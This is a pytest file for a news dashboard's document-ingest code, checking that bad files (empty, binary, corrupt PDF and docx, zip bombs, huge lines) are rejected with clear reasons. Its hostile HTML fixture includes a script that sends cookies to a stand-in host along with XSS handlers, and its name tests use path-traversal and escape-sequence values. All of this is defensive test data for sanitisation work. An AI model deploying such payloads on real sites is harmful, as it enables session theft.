"""Issue 7, bad input: one test per kind of bad file, at the level of read_document / read_files.

Every bad file gets one clear line (an IngestError) and the good files of the same batch are
read. The inputs are generated here (tests/data/bad/README.md says why nothing large is
committed); `bad_batch()` is reused by the CLI test, which scores such a batch end to end.
"""
from __future__ import annotations

import io
import os
import random
import time
import tracemalloc

import pytest

from dashboard import ingest
from dashboard.ingest import IngestError, read_document, safe_display_name
from dashboard.pipeline import RunReport, read_files

GOOD = ("date 2025-03-01\nCouncil approves the harbour budget\n\n"
        "The city council approved the harbour budget on Monday after a long debate. "
        "Mayor Anna Berg said the vote was close.\n\n"
        "Opposition members said the plan ignores the fishermen.\n")


def good_text(i: int) -> str:
    """A distinct tiny article (distinct content, so distinct article ids)."""
    return (f"Council vote number {i}\n\nThe council of district {i} approved budget line {i} on Monday. "
            f"Officials said vote {i} was close.\n")


# ---- generated files ---------------------------------------------------------------------------

def text_pdf(lines: list[str]) -> bytes:
    """A minimal one-page PDF whose text layer holds `lines` (Helvetica, no dependencies)."""
    content = "BT /F1 12 Tf 72 720 Td 14 TL " + " ".join(f"({line}) '" for line in lines) + " ET"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = b"%PDF-1.4\n", []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n{obj}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


def scanned_pdf() -> bytes:
    """A PDF with a page and no text layer (what a scanner without OCR produces)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def word_docx(heading: str, paragraphs: list[str]) -> bytes:
    import docx

    doc = docx.Document()
    doc.add_heading(heading, 1)
    for p in paragraphs:
        doc.add_paragraph(p)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


HOSTILE_HTML = b"""<!doctype html><html><head><title>Harbour budget passes</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="stealCookies()">
<nav>Home | World | Sport</nav>
<h1 onclick="alert('h1')">Harbour budget passes</h1>
<p onmouseover="alert('xss')">The council approved the harbour budget on Monday.<script>document.write('INJECTED')</script>
Officials said the <a href="javascript:alert('link')">vote</a> was close.</p>
<img src="x" onerror="alert('img')">
<noscript>NOSCRIPT TEXT</noscript><iframe srcdoc="<p>IFRAME TEXT</p>"></iframe>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<object data="evil.swf">OBJECT TEXT</object><template><p>TEMPLATE TEXT</p></template>
<!-- <p>COMMENTED OUT</p> -->
<p>&lt;script&gt;alert("quoted")&lt;/script&gt; is what the attacker typed, a reporter wrote.</p>
<form><input value="FORM VALUE"><button>BUTTON TEXT</button></form>
</body></html>"""


def bad_batch(seed: int = 7) -> list[tuple[str, bytes, str]]:
    """(name, bytes, expected status) for each bad input of the issue that fits in a batch, plus
    good files. Statuses: "rejected" (with a reason), "added", "duplicate"."""
    rng = random.Random(seed)
    latin1 = "Zoë Müller, the café owner, said the crème brûlée tax was naïve.\n\nThe mayor disagreed."
    utf16 = "Лондон and 東京 agreed on a trade deal, the ministers said.\n\nTalks resume in May."
    return [
        ("good.txt", GOOD.encode(), "added"),
        ("empty.txt", b"", "rejected"),
        ("random.txt", bytes(rng.getrandbits(8) for _ in range(4096)), "rejected"),
        ("latin1.txt", latin1.encode("latin-1"), "added"),
        ("utf16.txt", utf16.encode("utf-16"), "added"),
        ("hostile.html", HOSTILE_HTML, "added"),
        ("scanned.pdf", scanned_pdf(), "rejected"),
        ("report.pdf", text_pdf(["Ministers met in Oslo on Friday.", "They agreed to meet again."]), "added"),
        ("corrupt.docx", word_docx("Budget", ["The council met."])[:700], "rejected"),
        ("Статья о выборах.txt", "Выборы прошли спокойно, сообщила комиссия.\n\nЯвка была высокой.".encode(), "added"),
        ("新闻报道.md", "# 新闻\n\n议会周一批准了预算。官员说投票很接近。".encode(), "added"),
        ("good_copy.txt", GOOD.encode(), "duplicate"),  # sorts after good.txt, as a folder is read
    ]


# ---- one test per bad input -----------------------------------------------------------------

def _reason(name: str, data: bytes) -> str:
    with pytest.raises(IngestError) as info:
        read_document(name, data)
    reason = str(info.value)
    assert reason and "\n" not in reason and len(reason) < 300
    return reason


def test_ingest_empty_file_gets_a_reason():
    assert _reason("empty.txt", b"") == "the file is empty"
    assert _reason("blank.md", b" \n\n\t \r\n") == "the file holds only blank space"
    assert _reason("empty.html", b"") == "the file is empty"


def test_ingest_random_bytes_named_txt_are_refused_as_binary():
    rng = random.Random(1)
    for n in (512, 4096, 100_000):
        data = bytes(rng.getrandbits(8) for _ in range(n))
        assert _reason("random.txt", data) == "the file looks like binary data, not text"


def test_ingest_other_formats_named_txt_say_so():
    assert "PDF" in _reason("report.txt", text_pdf(["Hello there."]))
    assert "zip archive" in _reason("report.txt", word_docx("H", ["Some text."]))


def test_ingest_latin1_and_cp1252_are_decoded_not_rejected():
    text = "Zoë Müller, the café owner, said the “crème brûlée” tax was naïve – and costly."
    art = read_document("latin.txt", text.encode("cp1252"))
    assert art.paragraphs[0].text == text
    art = read_document("latin.txt", "Café au lait, señor.".encode("latin-1"))
    assert art.paragraphs[0].text == "Café au lait, señor."


def test_ingest_utf16_with_bom_and_utf8_bom_are_decoded():
    text = "Лондон and 東京 agreed on a deal, the ministers said."
    for enc in ("utf-16", "utf-32", "utf-8-sig"):
        assert read_document("x.txt", text.encode(enc)).paragraphs[0].text == text, enc
    # UTF-16 without a BOM is recognised by its zero bytes
    assert read_document("x.txt", "The minister said yes.".encode("utf-16-le")).paragraphs[0].text == \
        "The minister said yes."
    # a UTF-8 file with one stray latin-1 byte stays UTF-8
    art = read_document("x.txt", "Zoë Müller met José Núñez in Málaga. ".encode() * 2 + b"caf\xe9")
    assert art.paragraphs[0].text.startswith("Zoë Müller met José Núñez")


def test_ingest_file_of_the_size_limit_or_more_gets_a_reason(tmp_path):
    limit = ingest.MAX_BYTES
    assert limit == 50 * 2**20
    reason = _reason("big.txt", bytes(limit))  # exactly the limit: refused before anything is parsed
    assert reason == "the file is 50.0 MB; files must be smaller than 50 MB"
    assert _reason("big.pdf", bytes(limit + 1)).startswith("the file is 50.0 MB")


def test_ingest_text_file_just_under_the_limit_is_refused_quickly_and_in_bounded_memory():
    """A 50 MB text file is within the byte limit but far over the text limit (MAX_TEXT_CHARS):
    it gets its reason in well under a second of work and without copies of copies."""
    line = b"The council met again on Monday and the vote was close.\n\n"
    data = (line * (ingest.MAX_BYTES // len(line) + 1))[:ingest.MAX_BYTES - 1]
    for name in ("big.txt", "big.md", "big.html"):
        tracemalloc.start()
        t0 = time.perf_counter()
        reason = _reason(name, data)
        seconds = time.perf_counter() - t0
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert "million characters" in reason and "limit" in reason, reason
        assert seconds < 10, seconds
        assert peak < 4 * len(data), peak / 2**20  # the decoded text and one copy, not more


def test_ingest_pdf_and_docx_just_under_the_limit_are_refused_quickly():
    data = b"x" * (ingest.MAX_BYTES - 1)
    t0 = time.perf_counter()
    assert "not a PDF" in _reason("big.pdf", data)
    assert "not a zip archive" in _reason("big.docx", data)
    assert time.perf_counter() - t0 < 5


def test_ingest_single_1mb_line_becomes_bounded_paragraphs_in_linear_time():
    sentence = "The minister said the plan would work, and Mr. Smith of the U.S. Treasury agreed. "
    line = (sentence * (2**20 // len(sentence) + 1))[:2**20]
    t0 = time.perf_counter()
    art = read_document("oneline.txt", line.encode())
    assert time.perf_counter() - t0 < 10
    assert all(len(p.text) <= ingest.MAX_PARAGRAPH_CHARS for p in art.paragraphs)
    assert len(art.paragraphs) > 200
    # nothing is lost: the paragraphs put together are the line
    assert " ".join(p.text for p in art.paragraphs) == " ".join(line.split())
    # paragraphs end at sentence ends, never inside "Mr." or "U.S."
    assert all(p.text.endswith("agreed.") for p in art.paragraphs[:-1])


@pytest.mark.parametrize("line", [
    "!" * 2**19,  # a run of terminal punctuation
    "Mr. Smith " * (2**19 // 10),  # abbreviations with no sentence end
    "*a " * (2**19 // 3),  # markdown emphasis openers that never close
    "[a " * (2**19 // 3),  # link openers that never close
    "A. B. C. " * (2**19 // 9),  # initials
])
def test_ingest_pathological_long_lines_stay_linear(line):
    """Half a megabyte each: a quadratic pattern would take minutes here, a linear one a second."""
    for name in ("x.txt", "x.md"):
        t0 = time.perf_counter()
        try:
            art = read_document(name, ("Title " + line).encode())
        except IngestError:
            pass
        else:
            assert all(len(p.text) <= ingest.MAX_PARAGRAPH_CHARS for p in art.paragraphs)
        assert time.perf_counter() - t0 < 8, name


def test_ingest_html_scripts_and_event_handlers_dropped_text_kept():
    art = read_document("hostile.html", HOSTILE_HTML)
    text = "\n".join(p.text for p in art.paragraphs)
    assert art.title == "Harbour budget passes"
    assert [p.text for p in art.paragraphs] == [
        "Harbour budget passes",
        "The council approved the harbour budget on Monday. Officials said the vote was close.",
        '<script>alert("quoted")</script> is what the attacker typed, a reporter wrote.',
    ]
    # the last paragraph is text the page shows (escaped in the source), not code: it is kept
    for code in ("steal", "INJECTED", "alert('", "onload", "onerror", "onclick", "javascript:", "cookie",
                 "NOSCRIPT", "IFRAME", "OBJECT", "TEMPLATE", "COMMENTED", "FORM VALUE", "BUTTON", "background"):
        assert code not in text, code


def test_ingest_html_encodings_follow_bom_utf8_then_meta_charset():
    page = '<html><head><meta charset="windows-1252"></head><body><p>Café crème, señor.</p></body></html>'
    assert read_document("x.html", page.encode("cp1252")).paragraphs[0].text == "Café crème, señor."
    assert read_document("x.htm", page.encode("utf-16")).paragraphs[0].text == "Café crème, señor."
    # a saved web page named .txt is read as HTML, so its scripts are dropped too
    page = b"<!DOCTYPE html><html><body><script>evil()</script><p>Hello there.</p></body></html>"
    art = read_document("page.txt", page)
    assert [p.text for p in art.paragraphs] == ["Hello there."]


def test_ingest_pdf_without_text_layer_gets_a_reason_and_one_with_text_is_read():
    assert _reason("scan.pdf", scanned_pdf()) == \
        "the PDF has no text layer (a scanned document?); run OCR on it first"
    art = read_document("ok.pdf", text_pdf(["Ministers met in Oslo on Friday.", "They agreed to meet again."]))
    assert [p.text for p in art.paragraphs] == ["Ministers met in Oslo on Friday. They agreed to meet again."]
    assert "damaged" in _reason("cut.pdf", text_pdf(["Hello there."])[:150])


def test_ingest_corrupt_docx_gets_a_reason_and_a_good_one_is_read():
    good = word_docx("Budget passes", ["The council approved the budget on Monday."])
    art = read_document("ok.docx", good)
    assert [(p.text, p.is_heading) for p in art.paragraphs] == [
        ("Budget passes", True), ("The council approved the budget on Monday.", False)]
    corrupt = "the .docx file is corrupt or not a Word document"
    assert _reason("cut.docx", good[: len(good) // 2]).startswith(corrupt)
    assert _reason("noise.docx", os.urandom(5000)).startswith(corrupt)
    flipped = bytearray(good)
    for i in range(200, len(flipped), 97):  # damage the compressed parts, keep the zip directory
        flipped[i] ^= 0x5A
    assert _reason("flipped.docx", bytes(flipped)).startswith(corrupt)
    assert "old Word .doc" in _reason("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))


def test_ingest_docx_zip_bomb_is_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(ingest, "MAX_DOCX_UNZIPPED", 1000)
    assert "unpacks to more than" in _reason("bomb.docx", word_docx("H", ["x " * 2000]))


@pytest.mark.parametrize("name, shown", [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\Windows\\system.ini.txt", "system.ini.txt"),
    ("/abs/path/to/news.txt", "news.txt"),
    ("evil\x1b[31mred\x07\x00.txt", "evil[31mred.txt"),
    ("line\nbreak\r.txt", "linebreak.txt"),
    ("\u202etxt.exe.txt", "txt.exe.txt"),  # a right-to-left override would disguise the name
    ("Статья о выборах.txt", "Статья о выборах.txt"),
    ("新闻报道.md", "新闻报道.md"),
    ("دولت\u200cها.txt", "دولت\u200cها.txt"),  # the zero-width non-joiner belongs to the word
    ("..", "unnamed"),
    ("", "unnamed"),
    ("bad\udcffbytes.txt", "badbytes.txt"),  # an undecodable byte from a Linux file name
])
def test_ingest_names_are_sanitised_and_never_paths(name, shown):
    assert safe_display_name(name) == shown
    if shown.endswith((".txt", ".md")):
        art = read_document(name, b"The council met on Monday.")
        assert art.source_file == shown


def test_ingest_long_names_are_cut_keeping_the_extension():
    shown = safe_display_name("x" * 1000 + ".txt")
    assert len(shown) == 200 and shown.endswith(".txt")


def test_ingest_unsupported_extension_gets_a_reason():
    assert _reason("movie.mp4", b"\x00\x01").startswith("unsupported file type .mp4")
    assert _reason("README", b"hello").startswith("unsupported file type (none)")


def test_ingest_control_characters_are_dropped_from_text_and_titles():
    filler = b" The council met on Monday and the vote was close." * 4
    art = read_document("x.txt", b"Breaking\x1b[2J news\x07 today\x00." + filler + b"\x0c\n\nSecond\x0bpart here.")
    assert [p.text for p in art.paragraphs] == ["Breaking[2J news today." + filler.decode(), "Second part here."]
    art = read_document("x.html", b"<title>Bad\x1b]0;title\x07 here</title><p>The council met on Monday.</p>")
    assert art.title == "Bad]0;title here"


def test_ingest_read_files_same_article_twice_is_stored_once_with_a_reason():
    report = RunReport()
    arts = read_files([("a.txt", GOOD.encode()), ("b.md", GOOD.encode()), ("a.txt", GOOD.encode())], report)
    assert len(arts) == 1
    assert [f["status"] for f in report.files] == ["pending", "duplicate", "duplicate"]
    assert report.files[1]["reason"] == "the same article as a.txt, earlier in this batch"
    assert report.files[1]["article_id"] == arts[0].article_id
    assert report.errors == []


def test_ingest_read_files_bad_batch_every_file_gets_an_answer():
    report = RunReport()
    batch = bad_batch() + [("../../secret/evil\x1b.txt", b"The minister spoke.", "added")]
    arts = read_files([(n, d) for n, d, _ in batch], report)
    assert len(report.files) == len(batch)
    for (name, _, expected), f in zip(batch, report.files):
        status = "pending" if expected == "added" else expected
        assert f["status"] == status, (name, f)
        assert f["file"] == safe_display_name(name)
        if status != "pending":
            assert f["reason"] and "\n" not in f["reason"]
    assert {e["file"] for e in report.errors} == {"empty.txt", "random.txt", "scanned.pdf", "corrupt.docx"}
    assert len(arts) == sum(1 for *_, e in batch if e == "added")
    assert report.files[-1]["file"] == "evil.txt"


def test_ingest_read_files_100_files_at_once():
    items = [(f"article_{i:03d}.txt", good_text(i).encode()) for i in range(90)]
    items += [(f"empty_{i}.txt", b"") for i in range(5)] + [(f"dup_{i}.txt", good_text(i).encode()) for i in range(5)]
    report = RunReport()
    t0 = time.perf_counter()
    arts = read_files(iter(items), report)  # a generator: one file's bytes at a time
    assert time.perf_counter() - t0 < 10
    assert len(arts) == 90 and len({a.article_id for a in arts}) == 90
    assert len(report.files) == 100
    assert sum(f["status"] == "rejected" for f in report.files) == 5
    assert sum(f["status"] == "duplicate" for f in report.files) == 5


def test_ingest_read_files_survives_a_reader_bug(monkeypatch):
    real = ingest.read_document

    def flaky(name, data):
        if name == "boom.txt":
            raise KeyError("bug")
        return real(name, data)

    monkeypatch.setattr("dashboard.pipeline.read_document", flaky)
    report = RunReport()
    arts = read_files([("boom.txt", b"x"), ("ok.txt", b"The minister spoke.")], report)
    assert len(arts) == 1
    assert report.errors == [{"file": "boom.txt", "error": "the file could not be read (KeyError)"}]
